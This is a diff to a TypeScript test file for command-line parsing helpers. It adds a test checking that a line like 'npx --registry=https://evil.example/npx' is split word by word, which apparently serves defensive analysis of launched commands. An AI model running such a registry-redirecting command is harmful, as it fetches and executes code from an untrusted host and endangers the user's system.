@@ -2,7 +2,7 @@
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { identifyProduct, launchHash } from './launch.ts';
-import { unwrap } from './words.ts';
+import { unwrap, writtenWords } from './words.ts';
 
 const key = (line: string) => {
   const [command = '', ...args] = line.split(' ');
@@ -183,4 +183,13 @@ test.each([
   [['flock', '/tmp/lock', '-c', 'npx pkg']],
 ])('%j hands a line to a shell', (words) => {
   expect(unwrap(words)).toEqual(['npx', 'pkg']);
+});
+
+test('a line that was written as the command is told word by word', () => {
+  const line = 'npx --registry=https://evil.example/npx';
+  expect(writtenWords(line, ['-y', 'files'])).toEqual({
+    program: 'npx',
+    args: ['--registry=https://evil.example/npx', '-y', 'files'],
+  });
+  expect(writtenWords('/opt/my tools/npx', ['x']).args).toEqual(['x']);
 });
